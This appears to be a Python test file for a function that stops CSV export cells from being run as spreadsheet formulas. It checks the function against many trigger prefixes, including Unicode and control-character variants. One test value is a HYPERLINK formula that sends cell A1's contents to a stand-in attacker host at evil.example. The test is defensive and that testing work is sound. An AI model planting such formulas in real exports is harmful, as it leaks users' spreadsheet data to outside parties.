"""Cells of exports: text stays text in every spreadsheet."""

import csv
import io
import unicodedata
import uuid
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.workspace.settings_support import any_text, json_values
from workspace.core.csv_cells import safe_cell

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Open")'


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "=",
        "\t=1",
        "\r=1",
        "\n=1",
        "\ttext",
        "\rtext",
        "  =1",
        " \u00a0\u3000=1",
        "\ufeff=1",
        "\u200b\u2060=1",
        "\x01=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "﹢1",
        "﹣1",
        "﹫x",
        "⁼1",
        "₌1",
        "−1",
        "-inf",
    ],
    ids=ascii,
)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "",
        "Order 17",
        "a=b",
        "1-2",
        "me@example.com",
        "  leading space",
        "'quoted",
        "日本語",
        "#ref",
        "a\nb",
        "👩‍🔬",
    ],
    ids=ascii,
)
def test_other_text_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (0, "0"),
        (-5, "-5"),
        (-1.5, "-1.5"),
        (10**400, "1" + "0" * 400),
        (float("-inf"), "'-inf"),
        (float("nan"), "nan"),
        (datetime(2026, 4, 9, 8, 7, 6, tzinfo=UTC), "2026-04-09T08:07:06+00:00"),
        (date(2026, 4, 9), "2026-04-09"),
        (uuid.UUID(int=1), "00000000-0000-0000-0000-000000000001"),
        (["=1", {"a": "ü"}], '["=1", {"a": "ü"}]'),
        ({"a": None}, '{"a": null}'),
    ],
    ids=lambda value: ascii(value)[:30],
)
def test_every_kind_of_value_has_its_text(value: object, cell: str) -> None:
    assert safe_cell(value) == cell


def test_what_no_file_can_hold_is_replaced() -> None:
    assert safe_cell("a\0b\ud800c") == "a\ufffdb\ufffdc"


def test_a_nul_in_front_hides_no_formula() -> None:
    assert safe_cell("\0=1").startswith("'")


@given(any_text | json_values)
def test_a_row_survives_being_written_and_read(value: object) -> None:
    cell = safe_cell(value)
    written = io.StringIO(newline="")

    csv.writer(written).writerow([cell, "end"])

    again = io.StringIO(written.getvalue().encode().decode(), newline="")
    assert next(csv.reader(again)) == [cell, "end"]


@given(st.text("=+-@＝﹣\ufeff\0\t \ra1'", max_size=8))
def test_whatever_comes_first_to_the_eye_is_no_formula(text: str) -> None:
    visible = safe_cell(text).lstrip(" \ufeff")

    assert unicodedata.normalize("NFKC", visible)[:1] not in {"=", "+", "-", "@", "\t", "\r"}
